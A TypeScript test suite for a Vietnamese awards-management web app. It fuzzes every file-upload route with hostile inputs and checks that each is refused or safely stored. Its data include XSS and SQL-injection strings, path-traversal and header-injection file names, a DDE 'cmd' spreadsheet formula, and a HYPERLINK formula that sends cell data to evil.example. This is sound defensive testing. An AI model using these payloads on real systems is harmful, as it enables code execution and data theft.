// Hostile uploads (issue #8, point 2): every multipart route — read from the route table (schema.consumes names
// multipart/form-data), so a new upload route fails here until it is given a reachable record below — receives
// files a user or an attacker may send: content that does not match the extension, an empty file, a file over
// the 10 MB limit, path-traversal, control-character, CR/LF, overlong and NFD file names, a missing or misnamed
// file part, a broken multipart body, JSON instead of multipart, hostile text fields; the two .xlsx imports
// also get workbooks that are not workbooks and workbooks with hostile cells (formulas such as =cmd|…, overlong
// text, 31/02 dates, wrong types, NFD text, error values). Every answer is 2xx or 4xx in Vietnamese (never 5xx,
// never 401/403/404: the record is reachable, so a refusal is about the file); a refused upload leaves every table
// as it was (checksum per request); an accepted one stores a safe NFC file name; at the end every text column
// holds NFC text only. A valid control upload per route proves the route takes a good file.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { RouteOptions } from 'fastify';
import ExcelJS from 'exceljs';
import { PEOPLE_IMPORT_COLUMNS } from '../../contracts/people';
import type { Role } from '../../contracts/enums';
import { queryRows, sql } from '../db/client';
import { createSession } from '../modules/auth/sessions.queries';
import { changedTables, listTables, tableChecksums } from '../ops/backup-checksums';
import { NOMINEE_IMPORT_COLUMNS } from '../render/nominees-template.xlsx';
import { buildTestApp, call, type Session, type TestApp } from './app';
import { createPerson, createUnit, createUser, type UnitRow } from './factories';
import { judge, nonNfcColumns, NOT_COMPARED } from './fuzz-harness';

const PDF = Buffer.from('%PDF-1.4\n% Tờ trình\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
const PNG = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  Buffer.alloc(64, 7),
]);
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(64, 1)]);
const OVERSIZED = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(10 * 1024 * 1024 + 16, 0x20)]);
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03'), Buffer.alloc(64, 0)]);
const HTML = Buffer.from('<html><script>alert(document.cookie)</script></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
/** A ZIP with one entry that is neither a Word nor an Excel file (local header + central directory). */
const PLAIN_ZIP = Buffer.from(
  '504b03040a00000000000000000000000000000000000000000005000000612e747874' +
    '504b01021e030a00000000000000000000000000000000000000000005000000000000000000000000000000000061' +
    '2e747874504b0506000000000100010033000000230000000000',
  'hex',
);

interface Upload {
  payload: Buffer | string;
  headers: Record<string, string>;
}

/** multipart/form-data: text fields first, then the file part (raw header bytes: names are not escaped). */
function form(fields: Record<string, string>, filename: string, content: Buffer, field = 'file'): Upload {
  const boundary = `----vdfuzz${Math.random().toString(16).slice(2)}`;
  const parts = Object.entries(fields).map((e) =>
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${e[0]}"\r\n\r\n${e[1]}\r\n`),
  );
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\n` +
      'Content-Type: application/octet-stream\r\n\r\n',
  );
  return {
    payload: Buffer.concat([...parts, head, content, Buffer.from(`\r\n--${boundary}--\r\n`)]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

type Cell = ExcelJS.CellValue;

/** A workbook with the sheet "Danh sách", the given headings and rows. */
async function workbook(headers: string[], rows: Cell[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('Danh sách');
  sheet.addRow(headers);
  for (const r of rows) sheet.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

interface UploadRoute {
  method: 'POST' | 'PUT';
  url: string;
  session: Session;
  /** The file a user of the route normally sends, accepted (control case). */
  good: { name: string; content: Buffer };
  /** Text fields sent before the file (attachment kind and note, photo caption). */
  fields: Record<string, string>;
  /** The text fields that a user types (hostile values go there). */
  typed: string[];
  /** The .xlsx imports: headings and a good row; hostile cells are put in the row's cells. */
  sheet?: { headers: string[]; row: Cell[] };
}

interface Case {
  label: string;
  upload: Upload;
  /** 'refused': must be a 4xx; 'either': may be stored (a safe NFC name) or refused. */
  expect: 'refused' | 'either';
}

const HOSTILE_TEXT = [
  "'; DROP TABLE files; --",
  '<img src=x onerror=alert(1)>',
  'a\u0000b\u0007c\u001b[31m',
  'ễ'.repeat(5000),
  'Bản chính'.normalize('NFD'),
  '\ud800',
];

const FORMULAS: Cell[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  { formula: "cmd|' /C calc'!A0", result: 'Nguyễn Văn An' } as Cell,
  { formula: '1/0', result: { error: '#DIV/0!' } } as Cell,
];
const BAD_CELLS: Cell[] = [
  ...FORMULAS,
  'ễ'.repeat(20_000),
  '31/02/2023',
  '2023-02-31',
  '29/02/2023',
  '00/00/0000',
  new Date('1800-01-01'),
  new Date('2999-12-31'),
  1e308,
  -1,
  0.5,
  true,
  { error: '#N/A' } as Cell,
  { richText: [{ text: 'Nguyễn '.normalize('NFD') }, { text: 'Văn An' }] } as Cell,
  { text: 'Bấm', hyperlink: 'javascript:alert(1)' } as Cell,
  'Nguyễn Văn An'.normalize('NFD'),
  'a\u0000b\u0008',
  "1' OR '1'='1",
  '<script>alert(1)</script>',
  '',
  ' ',
];

/** The hostile uploads for a route (file-level ones for every route, workbook ones for the imports). */
async function casesFor(route: UploadRoute): Promise<Case[]> {
  const { fields } = route;
  const ext = route.good.name.slice(route.good.name.lastIndexOf('.'));
  const good = route.good.content;
  const cases: Case[] = [
    { label: 'PNG bytes named .pdf', upload: form(fields, 'bao-cao.pdf', PNG), expect: 'refused' },
    { label: 'PDF bytes named .docx', upload: form(fields, 'bao-cao.docx', PDF), expect: 'refused' },
    { label: 'an executable', upload: form(fields, `chuong-trinh${ext}`, EXE), expect: 'refused' },
    { label: 'an .exe name', upload: form(fields, 'chuong-trinh.exe', EXE), expect: 'refused' },
    { label: 'HTML named as the good type', upload: form(fields, `trang${ext}`, HTML), expect: 'refused' },
    { label: 'SVG with script', upload: form(fields, 'anh.svg', SVG), expect: 'refused' },
    {
      label: 'a ZIP that is no Office file',
      upload: form(fields, `nen${ext}`, PLAIN_ZIP),
      expect: 'refused',
    },
    { label: 'empty file', upload: form(fields, `rong${ext}`, Buffer.alloc(0)), expect: 'refused' },
    {
      label: 'the good bytes cut short',
      upload: form(fields, route.good.name, good.subarray(0, 2)),
      expect: 'refused',
    },
    { label: 'over 10 MB', upload: form(fields, `lon${ext}`, OVERSIZED), expect: 'refused' },
    { label: 'file part misnamed', upload: form(fields, route.good.name, good, 'tep'), expect: 'refused' },
    {
      label: 'no file part',
      upload: (() => {
        const b = '----vdfuzzkhongtep';
        return {
          payload: `--${b}\r\nContent-Disposition: form-data; name="note"\r\n\r\nghi chú\r\n--${b}--\r\n`,
          headers: { 'content-type': `multipart/form-data; boundary=${b}` },
        };
      })(),
      expect: 'refused',
    },
    {
      label: 'truncated multipart body',
      upload: (() => {
        const u = form(fields, route.good.name, good);
        return { ...u, payload: (u.payload as Buffer).subarray(0, (u.payload as Buffer).length - 30) };
      })(),
      expect: 'refused',
    },
    {
      label: 'multipart without boundary',
      upload: { payload: 'xin chào', headers: { 'content-type': 'multipart/form-data' } },
      expect: 'refused',
    },
    {
      label: 'empty boundary',
      upload: { payload: '--\r\n', headers: { 'content-type': 'multipart/form-data; boundary=' } },
      expect: 'refused',
    },
    {
      label: 'boundary over 256 characters',
      upload: (() => {
        const u = form(fields, route.good.name, good);
        const long = 'b'.repeat(300);
        const boundary = u.headers['content-type']!.split('boundary=')[1]!;
        const payload = (u.payload as Buffer).toString('latin1').split(boundary).join(long);
        return {
          payload: Buffer.from(payload, 'latin1'),
          headers: { 'content-type': `multipart/form-data; boundary=${long}` },
        };
      })(),
      expect: 'refused',
    },
    {
      label: 'JSON instead of multipart',
      upload: {
        payload: JSON.stringify({ file: good.toString('base64') }),
        headers: { 'content-type': 'application/json' },
      },
      expect: 'refused',
    },
    {
      label: 'unknown content type',
      upload: { payload: good, headers: { 'content-type': 'application/octet-stream' } },
      expect: 'refused',
    },
    // File names: the content is good, so the upload may be stored — under a safe NFC name.
    {
      label: 'path traversal name',
      upload: form(fields, `../../../../etc/passwd${ext}`, good),
      expect: 'either',
    },
    {
      label: 'Windows path name',
      upload: form(fields, `C:\\Windows\\system32\\a${ext}`, good),
      expect: 'either',
    },
    {
      label: 'control characters in the name',
      upload: form(fields, `a\u0001b\u0007c\u001b${ext}`, good),
      expect: 'either',
    },
    { label: 'NUL in the name', upload: form(fields, `a\u0000.exe${ext}`, good), expect: 'either' },
    {
      label: 'CR LF in the name',
      upload: form(fields, `a\r\nContent-Type: text/html${ext}`, good),
      expect: 'either',
    },
    { label: 'quote in the name', upload: form(fields, `a"; filename="b.exe${ext}`, good), expect: 'either' },
    {
      label: 'NFD Vietnamese name',
      upload: form(fields, `Tờ trình đề nghị${ext}`.normalize('NFD'), good),
      expect: 'either',
    },
    {
      label: 'overlong name',
      upload: form(fields, `${'Báo cáo '.repeat(300)}${ext}`, good),
      expect: 'either',
    },
    { label: 'name that is only an extension', upload: form(fields, ext, good), expect: 'either' },
    { label: 'empty name', upload: form(fields, '', good), expect: 'either' },
    {
      label: 'HTML in the name',
      upload: form(fields, `<script>alert(1)</script>${ext}`, good),
      expect: 'either',
    },
    {
      label: 'right-to-left override in the name',
      upload: form(fields, `bao\u202ecod${ext}`, good),
      expect: 'either',
    },
  ];
  for (const name of route.typed) {
    for (const value of HOSTILE_TEXT) {
      cases.push({
        label: `hostile ${name}: ${JSON.stringify(value.slice(0, 30))}`,
        upload: form({ ...fields, [name]: value }, route.good.name, good),
        expect: 'either',
      });
    }
  }
  if (route.sheet) {
    const { headers, row } = route.sheet;
    const broken = Buffer.from(good);
    broken.fill(0x41, 200, 600);
    cases.push(
      {
        label: 'workbook with damaged bytes',
        upload: form(fields, route.good.name, broken),
        expect: 'refused',
      },
      { label: 'a ZIP named .xlsx', upload: form(fields, 'danh-sach.xlsx', PLAIN_ZIP), expect: 'refused' },
      { label: 'PDF named .xlsx', upload: form(fields, 'danh-sach.xlsx', PDF), expect: 'refused' },
      {
        label: 'workbook without data rows',
        upload: form(fields, route.good.name, await workbook(headers, [])),
        expect: 'refused',
      },
      {
        label: 'workbook with other headings',
        upload: form(fields, route.good.name, await workbook(['A', 'B', 'C'], [[1, 2, 3]])),
        expect: 'refused',
      },
    );
    for (let col = 0; col < headers.length; col++) {
      for (const [i, value] of BAD_CELLS.entries()) {
        const bad = [...row];
        bad[col] = value;
        cases.push({
          label: `cell "${headers[col]}" = hostile #${i} ${JSON.stringify(value)?.slice(0, 40)}`,
          upload: form(fields, route.good.name, await workbook(headers, [bad])),
          expect: 'either',
        });
      }
    }
    cases.push({
      label: 'every cell a formula',
      upload: form(fields, route.good.name, await workbook(headers, [row.map(() => FORMULAS[0]!)])),
      expect: 'either',
    });
  }
  return cases;
}

let t: TestApp;
const declared: RouteOptions[] = [];
let routes: UploadRoute[] = [];

async function sessionFor(role: Role, unit: UnitRow): Promise<Session> {
  const user = await createUser(t.database.db, { roles: [{ role, unit }] });
  const s = await createSession(t.database.db, {
    userId: user.id,
    hours: 8,
    client: null,
    userAgent: 'fuzz',
  });
  return { cookie: `vd_session=${s.token}`, csrfToken: s.csrfToken };
}

async function created(res: { statusCode: number; body: string; json(): unknown }, what: string) {
  assert.ok(res.statusCode === 200 || res.statusCode === 201, `${what}: ${res.statusCode} ${res.body}`);
  return res.json() as Record<string, unknown> & { id: string };
}

/** A district with two communes, a person, and one record of each kind an upload attaches to. */
async function uploadWorld(): Promise<UploadRoute[]> {
  const db = t.database.db;
  const province = await createUnit(db, { name: 'Tỉnh Thử Tải Lên', kind: 'province', level: 'province' });
  const district = await createUnit(db, {
    parent: province,
    name: 'Huyện Thử',
    kind: 'district',
    level: 'district',
  });
  const communeA = await createUnit(db, { parent: district, name: 'Xã An Thử', code: 'XAT01' });
  const communeB = await createUnit(db, { parent: district, name: 'Xã Bình Thử' });
  const person = await createPerson(db, { unit: communeA, fullName: 'Phạm Thị Ảnh', gender: 'female' });
  const officerD = await sessionFor('officer', district);
  const officerA = await sessionFor('officer', communeA);
  const post = (s: Session, url: string, payload: unknown) =>
    call(t.app, s, { method: 'POST', url, payload });
  const put = (s: Session, url: string, payload: unknown) => call(t.app, s, { method: 'PUT', url, payload });

  const dossier = await created(
    await post(officerA, '/api/dossiers', {
      proposingUnitId: communeA.id,
      achievementYear: 2025,
      awardType: 'cong_trang',
      awardKinds: ['LDTT', 'CSTDCS'],
      nominees: [
        { subjectKind: 'individual', personId: person.id, awardKind: 'LDTT', summary: 'Hoàn thành tốt' },
      ],
    }),
    'dossier',
  );
  const nomineeId = (dossier.nominees as { id: string }[])[0]!.id;
  const document = await created(
    await post(officerD, '/api/documents', {
      unitId: district.id,
      type: 'ke_hoach',
      numberSymbol: '1321/UBND-KH',
      issuedOn: '2023-04-26',
      issuerName: 'UBND huyện Thử',
    }),
    'document',
  );
  const model = await created(
    await post(officerA, '/api/models', {
      ownerUnitId: communeA.id,
      subjectKind: 'individual',
      personId: person.id,
      category: 'dien_hinh_tien_tien',
      field: 'y_te',
      title: 'Nữ hộ sinh tận tụy',
      story: 'Chị Phạm Thị Ảnh nhiều năm gắn bó với trạm y tế xã, tận tình chăm sóc sản phụ và trẻ sơ sinh.',
      recognizedBy: 'Chủ tịch UBND xã',
    }),
    'model',
  );
  let group = await created(
    await post(officerD, '/api/emulation-groups', {
      year: 2023,
      organiserUnitId: district.id,
      kind: 'cluster',
      name: 'Cụm thi đua số 1',
      covenantNumber: '01/GƯTĐ-CTĐ1',
      covenantDate: '2023-02-10',
    }),
    'emulation group',
  );
  group = await created(
    await put(officerD, `/api/emulation-groups/${group.id}/members`, {
      version: group.version,
      members: [
        { unitId: communeA.id, role: 'leader', rotationOrder: 1 },
        { unitId: communeB.id, role: 'member', rotationOrder: 2 },
      ],
    }),
    'group members',
  );
  group = await created(
    await put(officerD, `/api/emulation-groups/${group.id}/sheet`, {
      version: group.version,
      bonusCap: 5,
      sections: [
        { title: 'I. Nhiệm vụ chính trị', criteria: [{ title: 'Phát triển kinh tế', maxPoints: 30 }] },
      ],
      bonus: [],
      penalties: [],
    }),
    'group sheet',
  );
  const itemId = (group.sheet as { sections: { criteria: { id: string }[] }[] }).sections[0]!.criteria[0]!.id;

  const peopleHeaders = PEOPLE_IMPORT_COLUMNS.map((c) => c.header);
  const peopleRow: Record<string, Cell> = {
    stt: 1,
    fullName: 'Trần Văn Bình',
    gender: 'Nam',
    birthDate: '15/03/1985',
    unit: 'XAT01',
    position: 'Chuyên viên',
    cadreClass: 'Công chức',
    fromDate: '01/01/2015',
  };
  const peopleCells = PEOPLE_IMPORT_COLUMNS.map((c) => peopleRow[c.key] ?? null);
  const nomineeHeaders = NOMINEE_IMPORT_COLUMNS.map((c) => c.header);
  const nomineeRow: Record<string, Cell> = {
    stt: 1,
    subjectKind: 'Cá nhân',
    person: person.id,
    fullName: 'Phạm Thị Ảnh',
    awardKind: 'Chiến sĩ thi đua cơ sở',
    summary: 'Hoàn thành xuất sắc nhiệm vụ',
  };
  const nomineeCells = NOMINEE_IMPORT_COLUMNS.map((c) => nomineeRow[c.key] ?? null);

  const pdf = { name: 'Báo cáo.pdf', content: PDF };
  return [
    {
      method: 'POST',
      url: `/api/dossiers/${dossier.id}/attachments`,
      session: officerA,
      good: pdf,
      fields: { kind: 'khac', note: 'Bản chính' },
      typed: ['kind', 'note'],
    },
    {
      method: 'PUT',
      url: `/api/dossiers/${dossier.id}/nominees/${nomineeId}/report`,
      session: officerA,
      good: pdf,
      fields: {},
      typed: [],
    },
    {
      method: 'POST',
      url: `/api/dossiers/${dossier.id}/nominees/import`,
      session: officerA,
      good: { name: 'Danh sách đề nghị.xlsx', content: await workbook(nomineeHeaders, [nomineeCells]) },
      fields: {},
      typed: [],
      sheet: { headers: nomineeHeaders, row: nomineeCells },
    },
    {
      method: 'PUT',
      url: `/api/emulation-groups/${group.id}/members/${communeA.id}/items/${itemId}/evidence`,
      session: officerA,
      good: pdf,
      fields: {},
      typed: [],
    },
    {
      method: 'PUT',
      url: `/api/emulation-groups/${group.id}/covenant-file`,
      session: officerD,
      good: { name: 'Giao ước 2023.pdf', content: PDF },
      fields: {},
      typed: [],
    },
    {
      method: 'POST',
      url: `/api/models/${model.id}/photos`,
      session: officerA,
      good: { name: 'Ảnh trao tặng.jpg', content: JPEG },
      fields: { caption: 'Nhận Giấy khen năm 2023' },
      typed: ['caption'],
    },
    {
      method: 'PUT',
      url: `/api/documents/${document.id}/file`,
      session: officerD,
      good: { name: 'Kế hoạch 1321.pdf', content: PDF },
      fields: {},
      typed: [],
    },
    {
      method: 'POST',
      url: '/api/people/import',
      session: officerA,
      good: { name: 'Danh sách cá nhân.xlsx', content: await workbook(peopleHeaders, [peopleCells]) },
      fields: {},
      typed: [],
      sheet: { headers: peopleHeaders, row: peopleCells },
    },
  ];
}

/** The route pattern an upload URL was made from (ids replaced by the parameters). */
const patternOf = (url: string) =>
  url.replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, ':');

/** The file names stored by the upload routes: safe for a path and a header, NFC. */
function unsafeName(name: string): string | null {
  if (name !== name.normalize('NFC')) return 'not NFC';
  if (/[\u0000-\u001f\u007f/\\]/.test(name)) return 'control character or path separator';
  if (name.length === 0 || name.length > 255) return `length ${name.length}`;
  if (/^\.\.?$/.test(name)) return 'a dot name';
  return null;
}

describe('hostile uploads: every multipart route', () => {
  before(async () => {
    t = await buildTestApp({ onRoute: (r) => declared.push(r) });
    routes = await uploadWorld();
  });
  after(() => t.close());

  it('every multipart route of the route table is covered here', () => {
    const multipartRoutes = declared
      .filter((r) =>
        ((r.schema as { consumes?: string[] } | undefined)?.consumes ?? []).includes('multipart/form-data'),
      )
      .flatMap((r) => [r.method].flat().map((m) => `${m} ${r.url.replace(/:[A-Za-z]+/g, ':')}`))
      .sort();
    assert.ok(multipartRoutes.length >= 8, `only ${multipartRoutes.length} multipart routes found`);
    assert.deepEqual(multipartRoutes, routes.map((r) => `${r.method} ${patternOf(r.url)}`).sort());
  });

  it('good files are accepted; hostile ones → never 5xx, 4xx in Vietnamese, refused = unchanged', async (ctx) => {
    const problems: string[] = [];
    const tables = (await listTables(t.database.db)).filter((n) => !NOT_COMPARED.includes(n));
    let total = 0;
    let accepted = 0;
    const knownFiles = new Set<string>();
    for (const route of routes) {
      const send = (u: Upload) =>
        call(t.app, route.session, {
          method: route.method,
          url: route.url,
          payload: u.payload,
          headers: u.headers,
        });
      const control = await send(form(route.fields, route.good.name, route.good.content));
      assert.ok(
        control.statusCode < 300,
        `${route.method} ${route.url} refused a good file: ${control.body}`,
      );
      let current = await tableChecksums(t.database.db, { tables });
      for (const c of await casesFor(route)) {
        const res = await send(c.upload);
        total++;
        const where = `${route.method} ${patternOf(route.url)} [${c.label}] → ${res.statusCode} ${res.body.slice(0, 300)}`;
        const problem = judge(res.statusCode, res.body);
        if (problem) problems.push(`${problem}: ${where}`);
        if ([401, 403, 404].includes(res.statusCode))
          problems.push(`refused for want of the record: ${where}`);
        // Nothing else runs between two uploads: the state after one is the state before the next.
        const after = await tableChecksums(t.database.db, { tables });
        if (res.statusCode >= 400) {
          const changed = changedTables(current, after);
          if (changed.length > 0) problems.push(`a refused upload changed ${changed.join(', ')}: ${where}`);
        } else {
          accepted++;
          if (c.expect === 'refused') problems.push(`accepted: ${where}`);
          const stored = await queryRows<{ id: string; name: string }>(
            t.database.db,
            sql`select id, name from files`,
          );
          for (const f of stored.filter((r) => !knownFiles.has(r.id))) {
            knownFiles.add(f.id);
            const why = unsafeName(f.name);
            if (why) problems.push(`stored file name ${JSON.stringify(f.name)} (${why}): ${where}`);
          }
        }
        current = after;
      }
    }
    ctx.diagnostic(
      `${routes.length} upload routes, ${total} hostile uploads, ${accepted} accepted (safe names checked)`,
    );
    assert.deepEqual(problems.slice(0, 30), [], `${problems.length} problems`);
  });

  it('every text the uploads stored is NFC (names, captions, notes, imported cells)', async () => {
    assert.deepEqual(await nonNfcColumns(t), []);
  });
});
